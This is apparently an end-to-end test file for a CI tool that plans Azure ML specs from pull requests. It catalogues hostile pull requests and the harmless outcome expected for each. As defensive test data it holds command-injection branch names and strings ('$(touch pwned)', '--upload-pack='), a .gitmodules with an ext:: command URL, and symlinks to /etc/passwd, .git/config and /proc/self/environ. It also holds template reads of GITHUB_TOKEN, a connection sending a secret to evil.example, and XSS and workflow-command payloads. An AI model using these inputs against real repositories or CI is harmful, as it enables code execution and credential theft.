"""Hostile pull requests: what each is up to, and the harmless thing that comes of it."""

import json
from collections.abc import Mapping
from typing import Any

from tests.e2e.conftest import Repo
from tests.e2e.edits import replace
from tests.e2e.hostile_ground import BASE, CONFIG, CPU, ENVIRONMENT, JOB, PROJECT, Change, Pull, Tamper

EVIL = "@everyone #1 [x](https://evil.example) ![x](https://evil.example/a.png) <img src=x onerror=y>"
STEERING = "\x1b[31mred\x1b]8;;https://evil.example\x07 \u202eesrever\u202c \u200b"
COMMANDS = "::add-mask::x\n::set-output name=a::b\n##[error]x\n##[add-mask]y"
MERMAID = 'x"] --> y["; click x href "javascript:alert(1)"; %%{init: {}}%%'
MARKERS = "<!-- aml-runner target=local --> --> <!-- aml-runner story e30= -->"
APPLY = ("apply", "--detach")
PLAIN = "environment: {image: python:3.11}\ncompute: azureml:parked\n"
MATRIX = f"{{% for n in range(300) %}}\n---\nname: j{{{{ n }}}}\ncommand: echo {{{{ n }}}}\n{PLAIN}{{% endfor %}}"
AWAY = """\
name: evil
type: python_feed
target: https://evil.example
credentials: {type: pat, pat: "{{ env.AML_SECRET_CANARY }}"}
"""
MINUTELY = """\
name: evil
trigger: {type: cron, expression: "* * * * *"}
create_job: azureml:hostile-train
"""


def described(text: str) -> Pull:
    """A new environment that says this of itself, and a job with this in its command, its inputs and its name."""
    said = json.dumps(text)
    files = {
        ENVIRONMENT: f"{BASE[ENVIRONMENT]}description: {said}\ntags: {{x: {said}}}\n",
        JOB: BASE[JOB].replace("0.5", said) + f"description: {said}\ndisplay_name: {said}\ntags: {{x: {said}}}\n",
    }
    return Pull("1 run on `local`: planned", files)


def config(more: str = "", *, name: str = "hostile", rest: str = CONFIG) -> Mapping[str, str]:
    """Another project.yml."""
    return {PROJECT: f"version: 1\nproject: {name}\n{rest}{more}"}


UNPROTECTED = config(
    rest="external: [compute/parked]\ntargets: {local: {prune: true}}\nrules:\n"
    "  - {match: '*', prevent_destroy: false, when_removed: cancel}\n"
)


def job(more: str) -> str:
    """A job that never runs."""
    return f"command: echo\n{PLAIN}{more}"


def linked(name: str, target: str) -> Change:
    """A symbolic link in place of what was there."""

    def change(repo: Repo) -> None:
        place = repo.root / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.unlink(missing_ok=True)
        place.symlink_to(target)

    return change


def submodule(repo: Repo) -> None:
    """The code becomes a submodule that nobody has fetched, and whose URL is a program."""
    repo.git("rm", "-q", "-r", "src")
    repo.write(".gitmodules", '[submodule "src"]\n\tpath = src\n\turl = ext::touch% pwned\n\tupdate = !touch pwned\n')
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},src")
    (repo.root / "src").mkdir()


def everything_gone(repo: Repo) -> None:
    """All specs are deleted."""
    for name in BASE:
        (repo.root / name).unlink()


def tampered(**changes: Any) -> Tamper:
    """Another pull request in the event."""
    return lambda event: event["pull_request"].update(changes)


def head_of(**changes: Any) -> Tamper:
    """Another head in the event's pull request."""
    return lambda event: event["pull_request"]["head"].update(changes)


TEXTS: Mapping[str, Pull] = {
    "mentions, links, images and HTML": described(EVIL),
    "ANSI and marks that turn direction": described(STEERING),
    "workflow commands": described(COMMANDS),
    "Mermaid that clicks": described(MERMAID),
    "our marker and a story": described(MARKERS),
    "fences and tables": described("```\n````\n| a | b |\n|---|---|\n</details>\n~~~\n`x`"),
    "shell metacharacters": described("$(touch pwned) `touch pwned` ; touch pwned & | > pwned"),
    "a text of 100,000 characters": described("x" * 100_000),
    "a branch that is a command": Pull("Nothing to do", branch="$(touch${IFS}pwned);`touch${IFS}pwned`"),
    "a branch that is an option": Pull("Nothing to do", branch="x/--upload-pack=touch${IFS}pwned"),
    "a field that is a command": Pull("1 error", {JOB: f'{BASE[JOB]}"::add-mask::x ##[error]y {EVIL}": 1\n'}, code=1),
    "an environment that is a mention": Pull(
        "1 error", {JOB: BASE[JOB].replace("hostile-plain@latest", "@everyone\u202e/##[error]")}, code=1
    ),
    "two hundred errors": Pull(
        "errors", {f"specs/jobs/e{n}.yml": f"{EVIL!r}: ::error::x\n" for n in range(200)}, code=1
    ),
}
NAMES: Mapping[str, Pull] = {
    "a file that is a command": Pull("4 errors", {"specs/jobs/::error file=a,line=1::x.yml": "a: 1\n"}, code=1),
    "a file of two lines": Pull("4 errors", {"specs/jobs/a\n::add-mask::b.yml": "a: 1\n"}, code=1),
    "a file that steers a terminal": Pull("4 errors", {"specs/jobs/\x1b[31m\u202elmy.yml": "a: 1\n"}, code=1),
    "a file that is Markdown": Pull("4 errors", {"specs/jobs/`[x](y)`<b>@all.yml": "a: 1\n"}, code=1),
    "a job that is a path": Pull("1 error", {JOB: job("name: ../../../etc/passwd\n")}, code=1),
    "a file in the code that is Markdown": Pull("1 run on", {f"src/{EVIL.replace('/', '')}\n::error::": "x"}),
}
LINKS: Mapping[str, Pull] = {
    "a spec that leads to the machine": Pull("1 error", change=linked("specs/jobs/x.yml", "/etc/passwd"), code=1),
    "a spec that leads to the token": Pull("1 error", change=linked("specs/jobs/x.yml", "../../.git/config"), code=1),
    "project.yml leads to the token": Pull("1 error", change=linked(PROJECT, "../.git/config"), code=1),
    "project.yml leads to the variables": Pull("1 error", change=linked(PROJECT, "/proc/self/environ"), code=1),
    "code that leads to the token": Pull("1 error", change=linked("src/config", "../.git/config"), code=1),
    "code that leads to the variables": Pull("1 error", change=linked("src/env", "/proc/self/environ"), code=1),
    "code that is .git": Pull("1 error", change=replace(JOB, "../../src", "../../.git"), code=1),
    "a template that includes the token": Pull(
        "1 error",
        {"specs/jobs/x.yml.j2": "description: {% include 'x.j2' %}\n"},
        change=linked("templates/x.j2", "../.git/config"),
        code=1,
    ),
    "specs that lead in a circle": Pull("Nothing to do", change=linked("specs/jobs/again", "..")),
    "a submodule that is a program": Pull("1 error", change=submodule, code=1),
    "attributes that name filters": Pull(
        "1 run on",
        {".gitattributes": "* filter=evil diff=evil merge=evil\n[attr]x filter=lfs\n", "src/main.py": "print()\n"},
    ),
    "LFS files that nobody has fetched": Pull(
        "1 error",
        {
            ".gitattributes": "*.bin filter=lfs\n",
            "src/a.bin": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 9\n",
        },
        code=1,
    ),
}
CONFIGS: Mapping[str, Pull] = {
    "its own branch is the target's": Pull(
        "1 withheld", {**config(rest=CONFIG.replace("main", "feature")), CPU: BASE[CPU].replace("2\n", "9\n")}
    ),
    "no branch is the target's": Pull(
        "1 withheld", {**config(rest=CONFIG.replace("{branch: main}", "{}")), CPU: BASE[CPU].replace("2\n", "9\n")}
    ),
    "another project's name": Pull("compute/hostile-cpu", config(name="somebody"), code=1),
    "coordinates that read the token": Pull(
        "names what is not set or must not be read",
        config(
            rest='targets: {local: {subscription_id: "{{ env.GITHUB_TOKEN }}", resource_group: a, workspace_name: b}}\n'
        ),
        code=1,
        posts=False,
    ),
    "coordinates that are a template": Pull(
        "is no valid template",
        config(
            rest="targets: {local: {subscription_id: \"{{ ''.__class__ }}##[error]\", resource_group: a, "
            "workspace_name: b}}\n"
        ),
        code=1,
        posts=False,
    ),
    "coordinates that are a path": Pull(
        "is not the name of anything on Azure",
        config(
            rest='targets: {local: {subscription_id: "x/../../..", resource_group: "@evil.example/", '
            'workspace_name: "x?y"}}\n'
        ),
        code=1,
        posts=False,
    ),
    "a target that is a mention": Pull(
        "error",
        config(rest='default_target: "@all ##[error] ::x\\n-->"\ntargets: {"@all ##[error] ::x\\n-->": {}}\n'),
        code=1,
    ),
    "a target of 70,000 characters": Pull(
        "error", config(rest=f"default_target: {'x' * 70_000}\ntargets: {{{'x' * 70_000}: {{}}}}\n"), code=1
    ),
    "nothing is protected any more, and all is pruned": Pull(
        ("3 withheld", "left to main"),
        UNPROTECTED,
        change=everything_gone,
    ),
    "all specs are gone": Pull("Nothing to do", change=everything_gone),
    "everything is external": Pull(
        "1 withheld", config(rest="external: ['*']\ntargets: {local: {prune: true}}\n"), change=replace(CPU, "2", "9")
    ),
    "huge limits": Pull("2 errors", config(f"limits: {{files: {'9' * 400}, bytes: {'9' * 400}}}\n"), code=1),
    "gates that are no numbers": Pull(
        "1 error", config("  - {match: job/*, gate: {metric: x, at_most: .nan}}\n"), code=1
    ),
    "gates on metrics that are Markdown": Pull(
        "Nothing to do",
        config(f"  - {{match: job/*, gate: {{metric: {json.dumps(EVIL)}, at_most: 1.0e+300}}}}\n"),
    ),
    "prices beyond all numbers": Pull(
        "costs at most **more than $1,000,000,000**",
        {
            **config(rest=CONFIG.replace("0.2", "1.0e+308")),
            JOB: job("resources: {instance_count: 1000000}\nlimits: {timeout: 9}\n"),
        },
    ),
    "no project.yml": Pull("no specs/project.yml", {PROJECT: None}, code=1, posts=False),
}
WORKLOADS: Mapping[str, Pull] = {
    "a million nodes": Pull(
        "costs at most **$200,000.00**", {JOB: BASE[JOB] + "resources: {instance_count: 1000000}\n"}
    ),
    "more nodes than numbers go": Pull("", {JOB: BASE[JOB] + f"resources: {{instance_count: {'9' * 400}}}\n"}, code=1),
    "a time limit beyond all numbers": Pull("", {JOB: BASE[JOB].replace("3600", "9" * 400)}, code=1),
    "a compute that grows": Pull("1 withheld", {CPU: BASE[CPU].replace("2\n", "1000\n")}),
    "a compute that is deleted": Pull("Nothing to do", {CPU: None}),
    "a compute of its own": Pull("1 withheld", {"specs/compute/own.yml": BASE[CPU].replace("-cpu", "-own")}),
    "a connection that sends a secret away": Pull("1 withheld", {"specs/connections/evil.yml": AWAY}),
    "a datastore of its own": Pull(
        "1 withheld",
        {"specs/datastores/evil.yml": "name: evil\ntype: azure_blob\naccount_name: evil\ncontainer_name: evil\n"},
    ),
    "a schedule that trains for ever": Pull("1 withheld", {"specs/schedules/evil.yml": MINUTELY}),
    "a URI of the machine that is asked for its ETag": Pull(
        "asking for the ETag of https://127.0.0.1:9/x",
        {
            **config("  - {match: job/*, fingerprint: etag}\n"),
            JOB: job("inputs: {a: {type: uri_file, path: 'https://127.0.0.1:9/x?sig=y'}}\n"),
        },
        code=1,
        posts=False,
    ),
    "a template that reads the token": Pull(
        "1 error", {"specs/jobs/x.yml.j2": "command: {{ env.GITHUB_TOKEN }}\n"}, code=1
    ),
    "a job that asks for a secret": Pull(
        "1 run on", {JOB: BASE[JOB] + 'environment_variables: {X: "{{ env.AML_SECRET_CANARY }}"}\n'}
    ),
    "a job that asks for the token": Pull(
        "1 error", {JOB: BASE[JOB] + 'environment_variables: {X: "{{ env.GITHUB_TOKEN }}"}\n'}, code=1
    ),
    "a job with the token written out": Pull(
        "1 error", {JOB: f"{BASE[JOB]}environment_variables: {{X: ghp_{'a' * 36}}}\n"}, code=1
    ),
    "300 runs": Pull("300 runs", {"specs/jobs/x.yml.j2": MATRIX}),
}
EVENTS: Mapping[str, Pull] = {
    "no pull request in its event": Pull("pull_request", tamper=dict.clear, code=1, posts=False),
    "no event at all": Pull("pull_request", variables={"GITHUB_EVENT_PATH": ""}, code=1, posts=False),
    "a number beyond all numbers": Pull("pull request", tamper=tampered(number=1e999), code=1, posts=False),
    "a number that is a path": Pull("pull request", tamper=tampered(number="7/../8"), code=1, posts=False),
    "a head that is an option": Pull("names no commits", tamper=head_of(sha="--output=pwned"), code=1, posts=False),
    "a head that is nowhere": Pull("Nothing to do", tamper=head_of(sha="f" * 40)),
    "a base that is nowhere": Pull(
        "Nothing to do", tamper=lambda event: event["pull_request"]["base"].update(sha="f" * 40, ref="--all")
    ),
    "a fork": Pull("comes from a fork", tamper=head_of(repo={"full_name": "eve/iris"}), posts=False),
    "a fork that is gone": Pull("comes from a fork", tamper=head_of(repo=None), posts=False),
    "a fork that would train": Pull(
        "comes from a fork",
        {JOB: BASE[JOB].replace("0.5", "0.6")},
        tamper=head_of(repo=None),
        posts=False,
        command=("apply",),
    ),
}
SLOW: Mapping[str, Pull] = {
    "3,000 runs": Pull("3,000 runs", {"specs/jobs/x.yml.j2": MATRIX.replace("300", "3000")}),
    "a pattern that never ends": Pull(
        "1 error", {"src/.amlignore": f"{'*a' * 30}b\n", f"src/{'a' * 200}": "x"}, code=1
    ),
    "20,001 files": Pull("1 error", change=lambda repo: [repo.write(f"src/{n}", "") for n in range(20_001)], code=1),
    "a template that raises to a power": Pull(
        "1 error", {"specs/jobs/x.yml.j2": "description: {{ 9 ** (9 ** 9) }}\n"}, code=1
    ),
}
APPLIES: Mapping[str, Pull] = {
    "texts that are more": Pull("1 run on `local`: running", described(EVIL + COMMANDS + MARKERS).files, command=APPLY),
    "a compute that grows, and a run": Pull(
        ("1 withheld", "left to main", "1 run"),
        {CPU: BASE[CPU].replace("2\n", "9\n"), JOB: BASE[JOB].replace("0.5", "0.6")},
        command=APPLY,
    ),
    "a compute that is deleted": Pull("Nothing to do", {CPU: None}, command=(*APPLY, "--prune")),
    "all specs are gone, and their runs are to be canceled": Pull(
        ("3 withheld", "left to main"),
        UNPROTECTED,
        change=everything_gone,
        command=(*APPLY, "--prune"),
    ),
    "another project's name": Pull("exists and", config(name="somebody"), code=1, command=APPLY),
    "a run of main that would be superseded": Pull(
        "1 run on",
        {**config("  - {match: '*', when_superseded: cancel}\n"), JOB: BASE[JOB].replace("0.5", "0.7")},
        branch="main2",
        command=APPLY,
    ),
    "what sends a secret away": Pull(
        "2 withheld",
        {"specs/connections/evil.yml": AWAY, "specs/compute/own.yml": BASE[CPU].replace("-cpu", "-own")},
        command=APPLY,
    ),
    "a push that is none": Pull(
        "tells of no pull request", {CPU: None}, tamper=dict.clear, code=1, posts=False, command=(*APPLY, "--prune")
    ),
}
PULLS = {**TEXTS, **NAMES, **LINKS, **CONFIGS, **WORKLOADS, **EVENTS}
